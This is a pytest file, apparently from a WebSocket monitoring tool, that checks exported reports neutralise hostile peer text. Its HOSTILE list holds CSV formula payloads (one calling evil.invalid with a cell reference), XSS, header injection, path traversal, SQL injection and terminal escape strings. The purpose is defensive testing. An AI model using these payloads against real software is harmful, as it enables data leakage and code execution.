"""What peers say stays what it is in every export: no formula, no path, no header, no script comes of it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from google.protobuf.json_format import ParseDict
from opentelemetry.proto.logs.v1.logs_pb2 import LogsData

from tests.support.builders import dialled, event, loss, message, refused, usable
from tests.support.recordings import FixedClock, recorded
from tests.support.session_events import FIRST, SECOND, of
from wsmon.export.formats import FORMATS
from wsmon.export.run import ExportRequest, run_export
from wsmon.model.events import Event, Json
from wsmon.model.sanitize import spreadsheet_cell
from wsmon.store.reader import Reader

# OWASP, "CSV injection"
FORMULA_STARTS = tuple("=+-@\t\r")
HOSTILE = (
    '=HYPERLINK("http://evil.invalid/?"&A1;"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "../../../../etc/cron.d/x",
    "/etc/passwd\x00.json",
    "x\r\nSet-Cookie: sid=1\r\n\r\n<html>",
    "<script>document.title='pwned'</script>",
    "</title><img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\"></svg>",
    "</script><script>document.title='pwned'</script>",
    '"><a href="javascript:document.title=\'pwned\'">',
    "]]><![CDATA[<script>document.title='pwned'</script>",
    "'; DROP TABLE event; --",
    "\x1b]0;pwned\x07\x1b[2J",
    "\u202egnp.exe",
    "{{7*7}} ${7*7} %(x)s {0}",
)
BROWSER = ("chromium", "--headless=new", "--no-sandbox", "--disable-gpu")


def said(number: int, text: str) -> list[Event]:
    """One text, in every place that a peer can put a text."""
    at_s = number * 10.0
    heads: list[Json] = [["X-" + text, text], ["Server", text]]
    opened = usable(at_s + 1, "nova", meta={"subprotocol": text, "response_headers": heads, "extensions": [text]})
    return [
        *of(
            FIRST,
            dialled(at_s, "nova", meta={"attempt": 1, "url": f"wss://host/{text}?q={text}"}),
            opened,
            message(text, at_s + 2, "nova", type=text, topic=text, ref=text, meta={text: text}),
            message(text.encode() + b"\xff", at_s + 3, "nova", direction="out"),
            event("error.occurred", at_s + 4, "nova", error_type=text, error=text),
            event("incident.opened", at_s + 4, "nova", type=text, reason=text),
            loss(at_s + 5, "nova", reason=text),
        ),
        *of(
            SECOND,
            dialled(at_s + 6, "nova", 2),
            refused(at_s + 7, "nova", error=text, meta={"body": text, "attempt": 2}),
        ),
    ]


@pytest.fixture(scope="module")
def exports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """A file of each format."""
    folder = tmp_path_factory.mktemp("hostile")
    events = [each for number, text in enumerate(HOSTILE) for each in said(number, text)]
    view = Reader(recorded(folder / "store.db", events, "nova", end_s=1_000.0), FixedClock(1_000.0))
    (folder / "out").mkdir()
    files: dict[str, Path] = {}
    for name in (*FORMATS, "markdown"):
        files[name] = folder / "out" / f"x{'.md' if name == 'markdown' else FORMATS[name].suffix}"
        run_export(ExportRequest("report" if name == "markdown" else name, files[name]), view)
    view.close()
    assert sorted((folder / "out").iterdir()) == sorted(files.values())
    return files


def strings(value: Any) -> Iterator[str]:
    """Every text in a JSON document, keys included."""
    match value:
        case str():
            yield value
        case dict():
            for key, inner in value.items():
                yield key
                yield from strings(inner)
        case list():
            for inner in value:
                yield from strings(inner)


def test_no_cell_of_a_table_is_a_formula_and_every_row_is_whole(exports: dict[str, Path]) -> None:
    rows = list(csv.reader(io.StringIO(exports["csv"].read_bytes().decode(), newline=""), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    payloads = {row[rows[0].index("payload")] for row in rows}
    assert payloads >= {spreadsheet_cell(text) for text in HOSTILE}


def test_lines_and_documents_hold_each_text_as_it_is(exports: dict[str, Path]) -> None:
    lines = exports["jsonl"].read_bytes().split(b"\n")[:-1]
    events = [json.loads(line) for line in lines]
    assert [each["payload"] for each in events if "payload" in each] == list(HOSTILE)
    for name in ("json", "otlp", "otlp-logs", "perfetto"):
        found = set(strings(json.loads(exports[name].read_bytes())))
        assert any("DROP TABLE event" in text for text in found), name
    assert not any(sign in exports["jsonl"].read_bytes() for sign in (b"\x1b", b"\x00", b"\r"))


def test_open_telemetry_reads_them(exports: dict[str, Path]) -> None:
    data = ParseDict(json.loads(exports["otlp-logs"].read_bytes()), LogsData(), ignore_unknown_fields=False)
    bodies = {
        record.body.string_value for one in data.resource_logs for each in one.scope_logs for record in each.log_records
    }
    assert bodies >= {HOSTILE[0], HOSTILE[9]}


def test_no_header_of_an_archive_makes_another(exports: dict[str, Path]) -> None:
    entries = json.loads(exports["har"].read_bytes())["log"]["entries"]
    assert len(entries) == 2 * len(HOSTILE)
    for entry in entries:
        for side in (entry["request"], entry["response"]):
            fields = [text for header in side["headers"] for text in (header["name"], header["value"])]
            fields += [side.get("url", ""), side.get("statusText", ""), side.get("redirectURL", "")]
            assert [text for text in fields if set(text) & set("\r\n\x00")] == []
    frames = [each["data"] for entry in entries for each in entry.get("_webSocketMessages", ())]
    assert set(frames) >= set(HOSTILE)


class Tags(HTMLParser):
    """The elements of a page and their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: set[str] = set()
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found |= {tag, *(name for name, _ in attrs if name.startswith("on") or name in ("src", "href"))}


def test_a_page_has_no_element_of_a_peer(exports: dict[str, Path]) -> None:
    page = exports["report"].read_text("utf-8")
    found = Tags(page).found
    assert not found & {"script", "img", "a", "iframe", "onerror", "onload", "src", "href"}
    assert not set(page) & {"\x1b", "\x00", "\u202e", "\r"}


@pytest.mark.skipif(shutil.which("chromium") is None, reason="chromium is not installed")
def test_a_browser_runs_nothing_of_it(exports: dict[str, Path]) -> None:
    """The page as the browser has it after everything that could run had its time."""
    command = [*BROWSER, "--virtual-time-budget=2000", "--dump-dom", exports["report"].as_uri()]
    dom = subprocess.run(command, capture_output=True, text=True, check=True, timeout=50).stdout
    assert "<title>WebSocket report: nova (nova.example.net)</title>" in dom
    assert "document.title='pwned'" in dom  # as text
    assert not Tags(dom).found & {"script", "img", "a", "onerror", "onload", "src", "href"}


@pytest.mark.skipif(shutil.which("chromium") is None, reason="chromium is not installed")
def test_the_browser_would_have_run_it(tmp_path: Path) -> None:
    """What the test above cannot see in its page, it sees in this one."""
    page = tmp_path / "page.html"
    page.write_text(f"<!doctype html><title>fine</title>{HOSTILE[9]}")
    command = [*BROWSER, "--virtual-time-budget=2000", "--dump-dom", page.as_uri()]
    dom = subprocess.run(command, capture_output=True, text=True, check=True, timeout=50).stdout
    assert "<title>pwned</title>" in dom


def test_markdown_has_no_markup_of_a_peer(exports: dict[str, Path]) -> None:
    text = exports["markdown"].read_text("utf-8")
    assert not set(text) & {"\x1b", "\x00", "\u202e", "\r"}
    plain = text.replace("\\\\", "").replace("\\<", "").replace("\\[", "").replace("\\!", "")
    assert not set(plain) & set("<[!")


def test_a_store_of_it_is_whole(exports: dict[str, Path]) -> None:
    view = Reader(exports["sqlite"], FixedClock(1_000.0))
    payloads = [each.payload for each in view.events_after(0, 1_000) if each.name == "message.received"]
    view.close()
    assert payloads == [text.encode() for text in HOSTILE]
